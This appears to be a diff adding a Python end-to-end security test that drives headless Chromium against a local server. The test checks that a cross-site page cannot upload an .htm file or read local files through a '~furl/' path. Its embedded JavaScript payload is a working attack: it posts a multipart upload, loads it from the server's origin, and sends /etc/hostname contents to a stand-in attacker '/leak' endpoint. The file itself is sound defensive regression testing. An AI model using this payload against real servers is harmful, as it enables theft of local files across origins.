@@ -1,0 +1,140 @@
+"""A page of another site in a real browser (headless Chromium) attacks the
+server: it posts a multipart form with an .htm upload to a page of the
+server, loads the upload from the server's own origin so that its script
+would read a local file through "~furl/", and reads "~furl/" directly. The
+attacker page comes from a second loopback port (a different origin). The
+server must store nothing and no local file may reach the attacker.
+
+    python3 cross_site_e2e.py --build BUILD
+"""
+
+import asyncio
+import http.server
+import json
+import os
+import sys
+import threading
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, os.path.join(os.path.dirname(HERE), "e2e"))
+sys.path.insert(0, HERE)
+
+import vexa_e2e as e2e  # noqa: E402
+from browser_e2e import Browser, Page, find_chromium  # noqa: E402
+from wsclient import wait_no_processes  # noqa: E402
+
+# The upload's script: read a local file from the server's origin and send
+# it to the attacker.
+UPLOAD = """<!doctype html><title>upload</title><script>
+fetch('/~furl//etc/hostname').then(r => r.text())
+  .then(t => fetch('ATTACKER/leak?via=upload', {method: 'POST', mode: 'no-cors', body: t}));
+</script>"""
+
+ATTACK_PAGE = """<!doctype html><title>attacker</title><body><script>
+const target = 'TARGET';
+const leak = (via, text) => fetch('/leak?via=' + via, {method: 'POST', body: text});
+async function attack() {
+  const form = new FormData();
+  form.append('note', 'hello');
+  form.append('file', new Blob([UPLOAD], {type: 'text/html'}), 'evil.htm');
+  try { await fetch(target + '/x.html', {method: 'POST', mode: 'no-cors', body: form}); } catch (e) {}
+  await new Promise(done => {
+    const frame = document.createElement('iframe');
+    frame.onload = frame.onerror = done;
+    frame.src = target + '/cache/evil.htm';
+    document.body.appendChild(frame);
+  });
+  try {
+    const r = await fetch(target + '/~furl//etc/hostname');
+    await leak('direct', await r.text());
+  } catch (e) {}
+  document.title = 'done';
+}
+attack();
+</script></body>"""
+
+
+class Attacker:
+    """The other site: a small HTTP server on another loopback port that
+    serves the attack page and records what is sent to /leak."""
+
+    def __init__(self, target_port):
+        self.leaks = []
+        owner = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def log_message(self, *args):
+                pass
+
+            def do_GET(self):
+                if self.path == "/":
+                    upload = json.dumps(UPLOAD.replace("ATTACKER", owner.url)).replace("</", "<\\/")
+                    page = ATTACK_PAGE.replace("UPLOAD", upload)
+                    body = page.replace("TARGET", f"http://127.0.0.1:{target_port}").encode()
+                    self.send_response(200)
+                    self.send_header("Content-Type", "text/html")
+                else:
+                    body = b""
+                    self.send_response(204)
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def do_POST(self):
+                n = int(self.headers.get("Content-Length") or 0)
+                owner.leaks.append((self.path, self.rfile.read(n).decode(errors="replace")))
+                self.send_response(204)
+                self.send_header("Access-Control-Allow-Origin", "*")
+                self.end_headers()
+
+        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
+        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self):
+        self.httpd.shutdown()
+        self.httpd.server_close()
+        self.thread.join(10)
+
+
+def test_cross_site_upload_then_read():
+    exe = find_chromium()
+    if not exe:
+        raise e2e.Skip("no Chromium installed (scripts/setup installs it)")
+    import websockets
+
+    with e2e.TestBundle(e2e.build_dir()) as b:
+        srv = b.start(["--port", str(b.port)])
+        cache = os.path.join(b.sample, "cache")
+        before = sorted(os.listdir(cache))
+        with open("/etc/hostname") as f:
+            secret = f.read().strip()
+        assert secret, "/etc/hostname is empty"
+        attacker = Attacker(b.port)
+        browser = Browser(exe)
+        try:
+            async def run():
+                async with websockets.connect(browser.page_socket(), max_size=None) as ws:
+                    page = Page(ws)
+                    await page.call("Page.enable")
+                    await page.call("Page.navigate", url=attacker.url + "/")
+                    await page.wait_text("document.title", lambda v: v == "done", timeout=30)
+                    await page.call("Page.navigate", url="about:blank")
+
+            asyncio.run(run())
+        finally:
+            browser.close()
+            attacker.close()
+        after = sorted(os.listdir(cache))
+        assert after == before, f"the cross-site post stored {sorted(set(after) - set(before))}"
+        leaked = [(path, text) for path, text in attacker.leaks if secret in text]
+        assert not leaked, f"a local file reached the other site: {leaked}"
+        code, out = srv.stop()
+        assert code == 0, out
+        assert "Sanitizer" not in srv.stderr_text(), srv.stderr_text()[-4000:]
+        wait_no_processes(b.root, 5)
+
+
+if __name__ == "__main__":
+    sys.exit(e2e.run_tests([test_cross_site_upload_then_read]))
